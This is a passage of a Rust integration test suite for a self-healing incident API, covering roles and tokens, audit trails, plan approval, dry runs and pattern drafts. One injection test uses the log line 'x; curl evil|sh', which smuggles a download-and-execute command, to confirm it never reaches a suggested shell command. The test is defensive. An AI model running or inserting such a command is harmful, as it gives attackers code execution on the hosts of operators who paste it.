//! The application interface as its callers meet it: who may do what, over which transport, and what errors say.

use std::sync::Arc;

use selfheal_api::view::{AuditPage, AutomationView, IncidentPage, IncidentView, Overview, PatternView, plain};
use selfheal_api::{App, AppOptions, Client, ClientError, Home, Problem, Role, Secret, bind, serve_socket, serve_tcp};
use serde_json::{Value, json};

struct Place {
    app: Arc<App>,
    _folder: tempfile::TempDir,
}

async fn place() -> Place {
    let folder = tempfile::tempdir().expect("a folder");
    let home = Home::new(folder.path());
    home.init().expect("made");
    let app = App::open(AppOptions::new(home)).await.expect("opens");
    app.add_knowledge().await.expect("added");
    Place { app, _folder: folder }
}

fn problem(error: ClientError) -> Problem {
    match error {
        ClientError::Problem(problem) => problem,
        other => panic!("expected a problem, found {other}"),
    }
}

/// The engine's effects are performed until there is nothing to do.
async fn settle(place: &Place) {
    loop {
        let tasks = place.app.engine.tick().await.expect("ticks");
        if tasks.is_empty() {
            break;
        }
        for task in tasks {
            task.await.expect("ran");
        }
    }
}

/// An escalated incident.
async fn escalated(place: &Place) -> String {
    let client = Client::in_process(&place.app);
    let body = json!({ "text": "ERROR nobody has seen this before", "source": "test", "service": "pay", "project": null, "dry_run": false });
    let _: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
    settle(place).await;
    let page: IncidentPage = client.get("/api/v1/incidents?group=needs_you").await.expect("listed");
    page.incidents[0].id.clone()
}

#[tokio::test]
async fn over_http_a_token_decides_who_may_do_what() {
    let place = place().await;
    let id = escalated(&place).await;
    let listener = bind("127.0.0.1:0".parse().expect("an address")).await.expect("a port");
    let base = format!("http://{}", listener.local_addr().expect("an address"));
    let _served = serve_tcp(&place.app, listener);
    let local = Client::in_process(&place.app);
    let mut clients = Vec::new();
    for role in ["viewer", "approver", "admin"] {
        let made: Value = local.post("/api/v1/tokens", &json!({ "name": role, "role": role })).await.expect("made");
        let token = Secret::new(made["token"].as_str().expect("a token"));
        clients.push(Client::remote(&base, Some(token)).expect("a client"));
    }
    let [viewer, approver, admin] = &clients[..] else { panic!("three clients") };
    let pattern = json!({ "name": "New", "root_cause": "x" });
    for (client, may_act, may_edit) in [(viewer, false, false), (approver, true, false), (admin, true, true)] {
        client.get::<Overview>("/api/v1/overview").await.expect("everybody may look");
        let note = client.post::<IncidentView>(&format!("/api/v1/incidents/{id}/note"), &json!({ "text": "x" })).await;
        assert_eq!(note.is_ok(), may_act);
        let edited = client.put::<PatternView>("/api/v1/patterns/new", &pattern).await;
        assert_eq!(edited.is_ok(), may_edit);
        if let Err(error) = edited {
            let problem = problem(error);
            assert_eq!(problem.code, "forbidden");
            assert!(problem.why.contains("needs the role admin"), "{problem}");
        }
        // Everybody may see what waits, an admin alone takes it; here nothing waits.
        client.get::<Value>("/api/v1/configuration").await.expect("everybody may look");
        let accepted = client.post::<Value>("/api/v1/configuration/accept", &json!({ "digest": "x" })).await;
        let code = if may_edit { "configuration_changed" } else { "forbidden" };
        assert_eq!(problem(accepted.expect_err("nothing waits")).code, code);
    }
    // No token, a wrong one, and one that was taken away.
    for token in [None, Some(Secret::new("0".repeat(64)))] {
        let stranger = Client::remote(&base, token).expect("a client");
        let error = stranger.get::<Overview>("/api/v1/overview").await.expect_err("must be refused");
        assert_eq!(problem(error).code, "unauthenticated");
    }
    let _: Value = local.call("DELETE", "/api/v1/tokens/viewer", None::<&()>).await.expect("removed");
    assert!(viewer.get::<Overview>("/api/v1/overview").await.is_err());
}

#[tokio::test]
async fn what_people_do_is_on_record_with_their_name() {
    let place = place().await;
    let id = escalated(&place).await;
    let client = Client::in_process(&place.app);
    let path = |operation: &str| format!("/api/v1/incidents/{id}/{operation}");
    let me = selfheal_api::Principal::local().name;
    let _: IncidentView = client.post(&path("acknowledge"), &json!({})).await.expect("done");
    let _: IncidentView = client.post(&path("note"), &json!({ "text": "looking" })).await.expect("done");
    let _: IncidentView = client.post(&path("snooze"), &json!({ "minutes": 5 })).await.expect("done");
    let _: IncidentView = client.post(&path("wake"), &json!({})).await.expect("done");
    let view: IncidentView = client.post(&path("resolve"), &json!({ "comment": "by hand" })).await.expect("done");
    assert_eq!(view.incident.resolved_by, Some(selfheal_core::ResolvedBy::Person));
    assert_eq!(view.incident.acknowledged_by.as_deref(), Some(me.as_str()));
    assert!(!view.can.resolve.allowed && view.can.resolve.reason.is_some(), "a disabled control says why");
    let page: AuditPage = client.get(&format!("/api/v1/audit?incident={id}")).await.expect("listed");
    let mine: Vec<&str> =
        page.entries.iter().rev().filter(|entry| entry.actor == me).map(|entry| entry.event_type.as_str()).collect();
    assert_eq!(
        mine,
        ["incident.acknowledged", "incident.noted", "incident.snoozed", "incident.woken", "incident.resolved"]
    );
    // Again is not possible, and says so: which state forbids it, since when, and what can be done instead.
    let at = view.incident.resolved_at.clone().expect("resolved");
    for (operation, body, what) in [
        ("resolve", json!({ "comment": null }), "Not resolved"),
        ("snooze", json!({ "minutes": 5 }), "Not snoozed"),
        ("escalate", json!({ "comment": null }), "Not handed over"),
        ("wake", json!({}), "Not woken"),
    ] {
        let problem = problem(client.post::<IncidentView>(&path(operation), &body).await.expect_err("refused"));
        assert_eq!((problem.code.as_str(), problem.what.as_str()), ("illegal_state", what));
        let since = format!("It is over: resolved by hand, {{{}Z}}", &at[..19]);
        assert!(problem.why.contains(&since), "{operation}: {} has no {since}", problem.why);
        assert_eq!(problem.next, "What you can do now: add a note.", "{operation}");
        assert!(![&problem.why, &problem.next].iter().any(|text| text.contains('`') || text.contains("changed")));
    }
}

#[tokio::test]
async fn a_plan_is_approved_by_its_hash_or_not_at_all() {
    let place = place().await;
    let id = escalated(&place).await;
    let client = Client::in_process(&place.app);
    let body = json!({ "plan_hash": "0".repeat(64), "typed_target": null });
    let error =
        client.post::<IncidentView>(&format!("/api/v1/incidents/{id}/approve"), &body).await.expect_err("refused");
    let problem = problem(error);
    assert_eq!((problem.code.as_str(), problem.what.as_str()), ("no_plan_waits", "Not approved"));
    assert!(problem.why.starts_with("Nothing waits for approval. It is with a person since {"), "{}", problem.why);
    assert!(
        problem.next.starts_with("What you can do now: choose an action to run, acknowledge it"),
        "{}",
        problem.next
    );
}

/// A cause that only a person mends, whose pattern is hardly trusted: what it knows is told all the same, with the values of
/// this incident in it.
#[tokio::test]
async fn what_a_pattern_knows_is_told_whatever_was_decided() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    let pack = "patterns:\n- name: Upstream gone\n  rule: { any: [{ regex: 'cannot reach (?P<host>.+) on port (?P<port>\\d+)$' }] }\n  \
        root_cause: '{service} cannot reach {host} since {since}.'\n  checks: ['`nc -vz {host} {port}` connects']\n  \
        no_safe_fix: 'Try `nc -vz {host} {port}` from the host of {service}.'\n  confidence: 0.05\n";
    let home = Home::new(place._folder.path());
    std::fs::write(home.knowledge().join("own.yaml"), pack).expect("written");
    place.app.add_knowledge().await.expect("added");
    let mut shown = Vec::new();
    for line in ["cannot reach db1.example on port 5432", "cannot reach x; curl evil|sh on port 5432"] {
        let text = format!("2026-02-28T14:02:00Z ERROR {line}\n");
        let service = format!("pay{}", shown.len());
        let body = json!({ "text": text, "source": "test", "service": service, "project": null, "dry_run": false });
        let _: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
        settle(&place).await;
        let page: IncidentPage = client.get("/api/v1/incidents?group=needs_you").await.expect("listed");
        let path = format!("/api/v1/incidents/{}", page.incidents[0].id);
        shown.push(client.get::<IncidentView>(&path).await.expect("shown"));
        // Out of the way of the next one, which looks the same.
        let done = json!({ "comment": null });
        let _: IncidentView = client.post(&format!("{path}/resolve"), &done).await.expect("resolved");
    }
    let told = |view: &IncidentView| {
        let cause = view.what_to_do.causes.first().expect("a cause").clone();
        (plain(&cause.by_hand), plain(&cause.cause), cause.checks.iter().map(|check| plain(check)).collect::<Vec<_>>())
    };
    let (by_hand, cause, checks) = told(&shown[0]);
    assert_eq!(by_hand, "Try `nc -vz db1.example 5432` from the host of pay0.");
    assert_eq!(cause, "pay0 cannot reach db1.example since {2026-02-28T14:02:00Z}.");
    assert_eq!(checks, ["`nc -vz db1.example 5432` connects"]);
    assert_eq!(shown[0].root_cause.as_deref(), Some(cause.as_str()), "and the cause is no secret either");
    // Whoever can write a line of the log must not write the command that a tired person pastes.
    let (by_hand, cause, _) = told(&shown[1]);
    assert_eq!(by_hand, "Try `nc -vz <host> 5432` from the host of pay1.");
    assert!(cause.contains("“x; curl evil|sh”"), "{cause}");
    let open = &shown[1].what_to_do.causes[0].values[0];
    assert_eq!((open.name.as_str(), open.left_open), ("host", true));
}

#[tokio::test]
async fn what_nobody_knows_is_not_made_up() {
    let place = place().await;
    let id = escalated(&place).await;
    let client = Client::in_process(&place.app);
    let view: IncidentView = client.get(&format!("/api/v1/incidents/{id}")).await.expect("shown");
    assert!(view.what_to_do.causes.is_empty() && view.root_cause.is_none());
    assert!(view.what_to_do.unknown.is_some_and(|text| text.starts_with("Nothing is known of it.")));
}

#[tokio::test]
async fn bad_questions_get_an_answer_that_helps() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    for (method, path, body, status, words) in [
        ("GET", "/api/v1/incidents/99", None, 404, "there is no incident 99"),
        ("GET", "/api/v1/incidents/forty", None, 422, "is not an id"),
        ("GET", "/api/v1/incidents?after=x", None, 422, "no `next` of a page"),
        ("GET", "/api/v1/patterns/none", None, 404, "there is no pattern"),
        (
            "PUT",
            "/api/v1/automation",
            Some(json!({ "posture": "wild", "minutes": null, "reason": null })),
            422,
            "posture",
        ),
        (
            "PUT",
            "/api/v1/automation",
            Some(json!({ "posture": "paused", "minutes": 0, "reason": null })),
            422,
            "expected 1 to",
        ),
        (
            "PUT",
            "/api/v1/patterns/a",
            Some(json!({ "name": "A", "root_cause": "x", "rule": "(" })),
            422,
            "unclosed group",
        ),
        (
            "PUT",
            "/api/v1/patterns/a",
            Some(json!({ "name": "A", "root_cause": "x", "action": "service.explode" })),
            422,
            "service.restart",
        ),
        (
            "PUT",
            "/api/v1/patterns/a",
            Some(json!({ "name": "A", "root_cause": "x", "confidence": 2 })),
            422,
            "between 0 and 1",
        ),
        ("PUT", "/api/v1/patterns/b", Some(json!({ "name": "A", "root_cause": "x" })), 422, "the id `a`"),
        ("POST", "/api/v1/demo/kill-service", None, 404, "no demo"),
    ] {
        let reply = client.request(method, path, body.as_ref()).await.expect("answered");
        assert_eq!(reply.status, status, "{method} {path}: {}", reply.body);
        assert!(reply.body.to_string().contains(words), "{method} {path}: {}", reply.body);
    }
}

#[tokio::test]
async fn a_second_process_finds_the_running_engine_and_cannot_be_a_second_one() {
    let place = place().await;
    let socket = place.app.home.socket();
    assert!(Client::running(&socket).is_none());
    let served = serve_socket(&place.app).expect("served");
    let client = Client::running(&socket).expect("found");
    let body = json!({ "posture": "paused", "minutes": 15, "reason": "test" });
    let view: AutomationView = client.put("/api/v1/automation", &body).await.expect("set");
    assert_eq!(view.effective, selfheal_core::Posture::Paused);
    assert!(view.until.is_some());
    let error = serve_socket(&place.app).err().expect("refused").to_string();
    assert!(error.contains("an engine already runs"), "{error}");
    drop(served);
    assert!(Client::running(&socket).is_none());
    // What a dead engine leaves behind, without its lock, is no obstacle.
    std::fs::write(&socket, "").expect("written");
    serve_socket(&place.app).expect("taken over");
}

#[tokio::test]
async fn a_rehearsal_shows_everything_and_keeps_nothing() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    let body = json!({ "text": "WARN exited: pay (terminated by SIGKILL; not expected)\nERROR exited: pay (terminated by SIGKILL; not expected)",
        "source": "test", "service": "pay", "project": null, "dry_run": true });
    let reply: Value = client.post("/api/v1/ingest", &body).await.expect("rehearsed");
    assert_eq!(reply["records"], 2);
    assert_eq!(reply["signals"].as_array().map(Vec::len), Some(1));
    assert_eq!(reply["matches"][0]["pattern"], "service-stopped-by-a-signal");
    assert_eq!(reply["matches"][0]["relevance"], 1.0);
    assert_eq!(reply["decision"], "suggest");
    let page: IncidentPage = client.get("/api/v1/incidents").await.expect("listed");
    assert!(page.incidents.is_empty(), "a rehearsal left something behind");
}

/// Different failures, each a template of its own.
fn different(count: usize) -> String {
    let word =
        |i: usize| -> String { format!("{i:06}").bytes().map(|digit| char::from(digit - b'0' + b'a')).collect() };
    (0..count).map(|i| format!("ERROR {} failed\n", word(i))).collect()
}

#[tokio::test]
async fn a_rehearsal_of_any_size_waits_for_nobody_who_writes_and_nobody_waits_for_it() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    // Somebody writes, and goes on until the rehearsal is over: it needs no turn.
    let writing = place.app.engine.store().write().await.expect("writes");
    let body =
        json!({ "text": different(1_000), "source": "test", "service": "pay", "project": null, "dry_run": true });
    let reply: Value = client.post("/api/v1/ingest", &body).await.expect("rehearsed");
    drop(writing);
    assert_eq!((&reply["records"], &reply["judged"]), (&json!(1_000), &json!(200)));
    assert_eq!(reply["signals"].as_array().map(Vec::len), Some(1_000));
    let page: IncidentPage = client.get("/api/v1/incidents").await.expect("listed");
    assert!(page.incidents.is_empty(), "a rehearsal left something behind");
}

#[derive(Debug, Default)]
struct Commits(std::sync::Mutex<Vec<String>>);

impl selfheal_store::CommitObserver for Commits {
    fn before_commit(&self, label: &str) {
        self.0.lock().expect("no panic").push(label.to_owned());
    }

    fn after_commit(&self, _: &str) {}
}

#[tokio::test]
async fn much_is_taken_a_little_at_a_time() {
    let folder = tempfile::tempdir().expect("a folder");
    let home = Home::new(folder.path());
    home.init().expect("made");
    let commits = Arc::new(Commits::default());
    let store = selfheal_store::Store::open(&format!("sqlite:{}", home.database().display())).await.expect("opens");
    let store = store.observed(Arc::clone(&commits) as Arc<dyn selfheal_store::CommitObserver>);
    let kept = home.audit_checkpoints(None);
    let config = selfheal_core::config::Config::default();
    let app = App::assemble(home.clone(), home.config(), config, store, kept, Vec::new(), None).expect("assembled");
    let body = json!({ "text": different(250), "source": "test", "service": "pay", "project": null, "dry_run": false });
    let reply: Value = Client::in_process(&app).post("/api/v1/ingest", &body).await.expect("taken");
    assert_eq!(reply["signals"].as_array().map(Vec::len), Some(250));
    let commits = commits.0.lock().expect("no panic").clone();
    assert_eq!(commits.len(), 3, "others write in between: {commits:?}");
}

#[tokio::test]
async fn a_rehearsal_opens_no_circuit_breaker() {
    let place = place().await;
    let config = "services:\n  - name: pay\n    managed: true\n    target: { kind: supervisord, server: \"http://127.0.0.1:9/RPC2\", program: pay }\n";
    let config = selfheal_core::config::parse(config, "test").expect("parses");
    let connection = config.services[0].target.as_ref().expect("a target").connection();
    place.app.engine.reconfigure(config);
    let client = Client::in_process(&place.app);
    let body = json!({ "text": "ERROR exited: pay (terminated by SIGKILL; not expected)", "source": "test", "service": "pay", "dry_run": true });
    for _ in 0..6 {
        let reply: Value = client.post("/api/v1/ingest", &body).await.expect("rehearsed");
        let reasons = reply["reasons"].to_string();
        assert!(reasons.contains("cannot be reached"), "{reply}");
    }
    let mut tx = place.app.engine.store().read().await.expect("reads");
    assert!(tx.connection(&connection).await.expect("read").is_clean(), "a rehearsal counted as a failed call");
}

#[tokio::test]
async fn what_a_line_says_of_itself_chooses_nothing() {
    let place = place().await;
    let root = place.app.home.root().display().to_string();
    let config = format!(
        "services:\n  - {{ name: web, project: shop }}\n  - name: db\n    project: shop\n    managed: true\n    target: {{ kind: process, pidfile: {root}/db.pid, start: [/bin/sleep, \"60\"] }}\n"
    );
    place.app.engine.reconfigure(selfheal_core::config::parse(&config, "test").expect("parses"));
    let client = Client::in_process(&place.app);
    let line = r#"{"level":"error","service":"db","project":"core","message":"FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory"}"#;
    for dry_run in [true, false] {
        for (service, speaks_for) in [(json!("web"), "web"), (json!(null), "unknown")] {
            let body = json!({ "text": line, "source": "web.log", "service": service, "dry_run": dry_run });
            let reply: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
            let signal = &reply["signals"][0];
            assert_eq!((&signal["service"], &signal["named_service"]), (&json!(speaks_for), &json!("db")), "{reply}");
            assert_eq!(reply["incident"]["service"], json!(speaks_for), "{reply}");
        }
        // The analysis and the recommendation say the same as what would happen.
        for verb in ["analyze", "recommend"] {
            let body = json!({ "text": line, "service": "web" });
            let reply: Value = client.post(&format!("/api/v1/knowledge/{verb}"), &body).await.expect("answered");
            assert_eq!(reply["service"], "web");
        }
    }
    let page: IncidentPage = client.get("/api/v1/incidents").await.expect("listed");
    let view: IncidentView = client.get(&format!("/api/v1/incidents/{}", page.incidents[0].id)).await.expect("shown");
    assert_eq!(view.signals[0].named_service.as_deref(), Some("db"));
    assert!(page.incidents.iter().all(|incident| incident.service != "db"));
    // What the inventory knows is not said otherwise by who sends something.
    let body = json!({ "text": line, "source": "t", "service": "db", "project": "core", "dry_run": true });
    let refused = problem(client.post::<Value>("/api/v1/ingest", &body).await.expect_err("another project"));
    assert!(refused.why.contains("`shop`"), "{refused:?}");
}

#[tokio::test]
async fn a_viewer_tests_reviews_and_replays_nothing() {
    let place = place().await;
    let listener = bind("127.0.0.1:0".parse().expect("an address")).await.expect("a port");
    let base = format!("http://{}", listener.local_addr().expect("an address"));
    let _served = serve_tcp(&place.app, listener);
    let token = place.app.session_token("viewer", Role::Viewer).expect("a token");
    let client = Client::remote(&base, Some(token)).expect("a client");
    let replay = json!({ "pattern": "a", "removed": true });
    for (method, path, body) in [
        ("POST", "/api/v1/knowledge/test", Some(json!({}))),
        ("GET", "/api/v1/knowledge/review", None),
        ("POST", "/api/v1/knowledge/replay", Some(replay)),
    ] {
        let reply = client.request(method, path, body.as_ref()).await.expect("answered");
        assert_eq!(reply.status, 403, "{path}: {}", reply.body);
    }
    // One line against one pattern is read like any other line.
    let line = json!({ "patterns": ["service-stopped-by-a-signal"], "line": "exited: pay (terminated by SIGKILL; not expected)" });
    let reply = client.request("POST", "/api/v1/knowledge/test", Some(&line)).await.expect("answered");
    assert_eq!(reply.status, 200, "{}", reply.body);
    let long = json!({ "lines": ["x".repeat(70_000)] });
    let reply = client.request("POST", "/api/v1/knowledge/match", Some(&long)).await.expect("answered");
    assert_eq!(reply.status, 422, "{}", reply.body);
}

#[tokio::test]
async fn a_list_gives_what_was_asked_for_or_says_what_may_be() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    for (path, most) in [
        ("/api/v1/incidents?", 500),
        ("/api/v1/changes?", 500),
        ("/api/v1/audit?", 1_000),
        ("/api/v1/patterns?", 1_000),
        ("/api/v1/knowledge/search?q=disk&", 100),
    ] {
        for (limit, status) in [(1, 200), (most, 200), (most + 1, 422), (0, 422), (6_000_000, 422)] {
            let reply = client.request("GET", &format!("{path}limit={limit}"), None).await.expect("answered");
            assert_eq!(reply.status, status, "{path}limit={limit}: {}", reply.body);
            assert!(status == 200 || reply.body.to_string().contains(&format!("1 to {most}")), "{}", reply.body);
        }
    }
    let body = json!({ "lines": ["x"], "top": 101 });
    let reply = client.request("POST", "/api/v1/knowledge/match", Some(&body)).await.expect("answered");
    assert_eq!(reply.status, 422, "{}", reply.body);
}

#[tokio::test]
async fn a_viewer_may_rehearse_but_not_ingest() {
    let place = place().await;
    let listener = bind("127.0.0.1:0".parse().expect("an address")).await.expect("a port");
    let base = format!("http://{}", listener.local_addr().expect("an address"));
    let _served = serve_tcp(&place.app, listener);
    let token = place.app.session_token("viewer", Role::Viewer).expect("a token");
    let client = Client::remote(&base, Some(token)).expect("a client");
    for (dry_run, allowed) in [(true, true), (false, false)] {
        let body = json!({ "text": "ERROR x", "source": "t", "service": null, "project": null, "dry_run": dry_run });
        assert_eq!(client.post::<Value>("/api/v1/ingest", &body).await.is_ok(), allowed);
    }
}

/// A home with a managed program, and an engine that has nothing to do any more.
async fn with_a_program(place: &Place, approval: &str) -> Client {
    let root = place.app.home.root().display().to_string();
    let config = format!(
        "approval: {{ {approval} }}\nservices:\n  - name: pay\n    managed: true\n    target: {{ kind: process, pidfile: {root}/pay.pid, start: [/bin/sleep, \"60\"] }}\n"
    );
    let config = selfheal_core::config::parse(&config, "test").expect("parses");
    place.app.engine.reconfigure(config);
    Client::in_process(&place.app)
}

#[tokio::test]
async fn an_escalated_incident_can_be_given_an_action() {
    let place = place().await;
    let client = with_a_program(&place, "second_approver_for: [service.restart]").await;
    let id = escalated(&place).await;
    let path = |verb: &str| format!("/api/v1/incidents/{id}/{verb}");
    // Nothing is known that could be tried again, and what nobody can do is refused with the reason.
    for (body, code) in [
        (json!({ "action": null, "service": null }), "nothing_to_choose"),
        (json!({ "action": "service.destroy", "service": null }), "invalid"),
        (json!({ "action": "cache.clear", "service": null }), "no_plan"),
        (json!({ "action": "service.restart", "service": "web" }), "not_managed"),
        (json!({ "action": "service.restart", "service": null, "parameters": { "force": "1" } }), "no_plan"),
    ] {
        let refused = client.post::<IncidentView>(&path("choose"), &body).await.expect_err("must be refused");
        assert_eq!(problem(refused).code, code, "{body}");
    }
    let body = json!({ "action": "service.restart", "service": null, "parameters": { "stop_timeout_seconds": "30" } });
    let view: IncidentView = client.post(&path("choose"), &body).await.expect("chosen");
    let plan = view.plan.expect("a plan");
    assert_eq!((plan.parameters[0].value.as_str(), plan.chosen_by.is_some()), ("30", true));
    let edited: IncidentView = client
        .post(&path("edit"), &json!({ "plan_hash": plan.hash, "parameters": { "stop_timeout_seconds": "40" } }))
        .await
        .expect("edited");
    let after = edited.plan.expect("a plan");
    assert_ne!(after.hash, plan.hash);
    // The plan that was looked at is not the one that waits now.
    let stale = json!({ "plan_hash": plan.hash, "typed_target": null });
    let late = client.post::<IncidentView>(&path("approve"), &stale).await.expect_err("stale");
    assert_eq!(problem(late).code, "plan_changed");
    // Two people, and not one person twice.
    let approve = json!({ "plan_hash": after.hash, "typed_target": null });
    let first: IncidentView = client.post(&path("approve"), &approve).await.expect("approved");
    let approval = first.approval.expect("asked for");
    assert_eq!((approval.given, approval.needed, first.can.approve.allowed), (1, 2, false));
    let again = client.post::<IncidentView>(&path("approve"), &approve).await.expect_err("the same person");
    assert_eq!(problem(again).code, "second_approver_needed");
    let audit: AuditPage = client.get(&format!("/api/v1/audit?incident={id}")).await.expect("listed");
    let events: Vec<&str> = audit.entries.iter().rev().map(|entry| entry.event_type.as_str()).collect();
    assert_eq!(events, ["self_heal.escalated", "approval.requested", "approval.edited", "approval.granted"]);
}

#[tokio::test]
async fn maintenance_is_announced_listed_and_ended() {
    let place = place().await;
    let client = with_a_program(&place, "").await;
    for body in [
        json!({ "service": "nobody", "minutes": 10, "reason": null }),
        json!({ "service": "pay", "minutes": 0, "reason": null }),
        json!({ "service": "pay", "minutes": 10, "starts_at": "yesterday", "reason": null }),
        json!({ "service": "pay", "minutes": 10, "starts_at": "2020-01-01T00:00:00Z", "reason": null }),
    ] {
        let refused = client.post::<Value>("/api/v1/maintenance", &body).await.expect_err("must be refused");
        assert_eq!(problem(refused).code, "invalid", "{body}");
    }
    let body = json!({ "service": "pay", "minutes": 10, "reason": "new disk" });
    let page: Value = client.post("/api/v1/maintenance", &body).await.expect("announced");
    let window = &page["windows"][0];
    assert_eq!((&window["active"], &window["name"]), (&json!(true), &json!("new disk")));
    let id = window["id"].as_str().expect("an id").to_owned();
    let page: Value = client.delete(&format!("/api/v1/maintenance/{id}")).await.expect("ended");
    assert_eq!(page["windows"], json!([]));
    let gone = client.delete::<Value>(&format!("/api/v1/maintenance/{id}")).await.expect_err("over");
    assert_eq!(problem(gone).code, "not_found");
    let audit: AuditPage = client.get("/api/v1/audit").await.expect("listed");
    let events: Vec<&str> = audit.entries.iter().take(2).map(|entry| entry.event_type.as_str()).collect();
    assert_eq!(events, ["automation.maintenance_ended", "automation.maintenance_announced"]);
}

#[tokio::test]
async fn the_emergency_brake_is_seen_at_once() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    let on = json!({ "posture": "on", "minutes": null, "reason": null });
    let view: AutomationView = client.put("/api/v1/automation", &on).await.expect("set");
    assert_eq!((view.effective, view.brake), (selfheal_core::Posture::On, None));
    std::fs::create_dir_all(place.app.home.pause().parent().expect("a folder")).expect("made");
    std::fs::write(place.app.home.pause(), "").expect("written");
    let view: AutomationView = client.get("/api/v1/automation").await.expect("shown");
    assert_eq!(view.effective, selfheal_core::Posture::Paused);
    assert!(view.brake.is_some_and(|why| why.contains("is there")));
    std::fs::remove_file(place.app.home.pause()).expect("removed");
    let view: AutomationView = client.get("/api/v1/automation").await.expect("shown");
    assert_eq!(view.effective, selfheal_core::Posture::On);
}

#[tokio::test]
async fn a_viewer_may_see_notifiers_and_not_test_them() {
    let place = place().await;
    let listener = bind("127.0.0.1:0".parse().expect("an address")).await.expect("a port");
    let base = format!("http://{}", listener.local_addr().expect("an address"));
    let _served = serve_tcp(&place.app, listener);
    for (role, may_test) in [(Role::Viewer, false), (Role::Approver, true), (Role::Admin, true)] {
        let token = place.app.session_token(role.as_str(), role).expect("a token");
        let client = Client::remote(&base, Some(token)).expect("a client");
        let list: Value = client.get("/api/v1/notifiers").await.expect("everybody may look");
        assert_eq!(list["notifiers"][0]["name"], "log");
        assert_eq!(list["quiet_until"], Value::Null);
        let tested = client.post::<Value>("/api/v1/notifiers/log/test", &json!({})).await;
        assert_eq!(tested.is_ok(), may_test, "{role}");
        match tested {
            Ok(test) => assert_eq!((&test["ok"], &test["what"]), (&json!(true), &json!("logged"))),
            Err(error) => assert_eq!(problem(error).code, "forbidden"),
        }
    }
}

#[tokio::test]
async fn changes_are_recorded_listed_and_on_record() {
    let place = place().await;
    let client = with_a_program(&place, "").await;
    for body in [
        json!({ "service": " ", "kind": "deployment" }),
        json!({ "service": "pay", "kind": "party" }),
        json!({ "service": "pay", "kind": "restart", "at": "yesterday" }),
        json!({ "service": "pay", "kind": "restart", "at": "2999-01-01T00:00:00Z" }),
        json!({ "service": "pay", "kind": "restart", "version": "1".repeat(201) }),
    ] {
        let refused = client.post::<Value>("/api/v1/changes", &body).await.expect_err("must be refused");
        assert_eq!(problem(refused).code, "invalid", "{body}");
    }
    let body = json!({ "service": "pay", "kind": "deployment", "version": "2.4.1", "at": "2026-03-01T12:00:00+01:00" });
    let change: Value = client.post("/api/v1/changes", &body).await.expect("recorded");
    assert_eq!((&change["at"], &change["in_inventory"]), (&json!("2026-03-01T11:00:00Z"), &json!(true)));
    let unknown = json!({ "service": "nobody", "kind": "restart", "comment": "why not" });
    let unknown: Value = client.post("/api/v1/changes", &unknown).await.expect("recorded");
    assert_eq!(unknown["in_inventory"], json!(false));
    // Its signals are of this project, too.
    assert_eq!(unknown["project"], json!("default"));
    let page: Value = client.get("/api/v1/changes").await.expect("listed");
    assert_eq!(page["changes"], json!([unknown, change]), "latest first");
    let page: Value = client.get("/api/v1/changes?service=pay&limit=1").await.expect("listed");
    assert_eq!(page["changes"], json!([change]));
    let audit: AuditPage = client.get("/api/v1/audit").await.expect("listed");
    let events = audit.entries.iter().filter(|entry| entry.event_type == "knowledge.change_recorded").count();
    assert_eq!(events, 2);
}

#[tokio::test]
async fn what_an_unknown_incident_taught_is_accepted_reviewed_and_merged() {
    let place = place().await;
    let id = escalated(&place).await;
    let client = Client::in_process(&place.app);
    let resolve = json!({ "comment": "restarted it, token=abcdef123", "fixed_by": "service.restart" });
    let _: IncidentView = client.post(&format!("/api/v1/incidents/{id}/resolve"), &resolve).await.expect("done");
    let page: Value = client.get("/api/v1/knowledge/drafts").await.expect("listed");
    let draft = &page["drafts"][0];
    assert_eq!((&draft["incidents"], &draft["pattern"]["status"]), (&json!(1), &json!("draft")));
    assert_eq!(draft["pattern"]["action"], "service.restart");
    let cause = draft["pattern"]["root_cause"].as_str().unwrap_or_default();
    assert!(cause.contains("restarted it, token=[redacted]"), "{cause}");
    let name = draft["pattern"]["id"].as_str().expect("an id").to_owned();
    // A rule that does not hold on the draft's own example is refused, and nothing has changed.
    let accept = format!("/api/v1/knowledge/drafts/{name}/accept");
    let digest = draft["digest"].clone();
    let body = |change: Value| json!({ "digest": digest, "change": change });
    let error = client.post::<Value>(&accept, &body(json!({ "rule": "something else" }))).await.expect_err("refused");
    assert!(problem(error).why.contains("does not match its own example"));
    // Nobody decides about a version that was not looked at: a person edits it meanwhile.
    let document = format!("/api/v1/patterns/{name}/document");
    let mut shown: Value = client.get(&document).await.expect("shown");
    let text = format!(
        "# Ada's\n{}",
        shown["document"].as_str().unwrap_or_default().replace("severity: ", "family: memory\nseverity: ")
    );
    shown = client.put(&document, &json!({ "document": text })).await.expect("edited");
    assert_eq!(shown["changes"][0]["field"], "family");
    let reject = format!("/api/v1/knowledge/drafts/{name}/reject");
    for (path, stale) in [(&accept, body(json!({}))), (&reject, json!({ "digest": digest }))] {
        let error = client.post::<Value>(path, &stale).await.expect_err("refused");
        assert_eq!(problem(error).code, "draft_changed");
        let error = client.post::<Value>(path, &json!({})).await.expect_err("refused");
        assert!(problem(error).why.contains("which version"));
    }
    // What it would do once accepted is judged as that.
    let replayed: Value = client
        .post(
            "/api/v1/knowledge/replay",
            &json!({ "pattern": name, "document": text.replace("confidence: 0.5", "confidence: 1") }),
        )
        .await
        .expect("replayed");
    assert_eq!((&replayed["as_accepted"], &replayed["gained"]), (&json!(true), &json!(1)), "{replayed}");
    assert_eq!(
        (&replayed["newly_automatic"], &replayed["changes"][0]["after"]["decision"]),
        (&json!(0), &json!("suggest"))
    );
    let page: Value = client.get("/api/v1/knowledge/drafts").await.expect("listed");
    let digest = page["drafts"][0]["digest"].clone();
    assert_eq!(page["drafts"][0]["edited"], true);
    let body = |change: Value| json!({ "digest": digest, "change": change });
    // Under another name its document goes with it.
    let wanted =
        json!({ "name": "Stale cache", "root_cause": "The cache is stale.", "auto_healable": true, "confidence": 0.9 });
    let accepted: Value = client.post(&accept, &body(wanted)).await.expect("accepted");
    let name = accepted["id"].as_str().expect("an id").to_owned();
    let shown: Value = client.get(&format!("/api/v1/patterns/{name}/document")).await.expect("shown");
